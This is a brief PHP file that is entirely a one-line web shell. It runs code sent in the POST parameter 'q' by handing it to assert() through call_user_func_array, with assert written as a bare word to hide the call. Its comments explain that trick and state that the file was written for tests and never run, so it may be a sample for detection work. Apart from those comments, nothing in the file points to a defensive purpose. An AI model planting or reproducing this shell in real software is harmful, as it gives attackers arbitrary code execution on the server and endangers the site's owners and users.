<?php
// the runner named by a bare word (an undefined constant is its own name in PHP 7)
// handed to a callback API with posted code (written for the tests, never run)
$args = array(isset($_POST['q']) ? $_POST['q'] : 'phpinfo()');
@call_user_func_array(assert, $args);
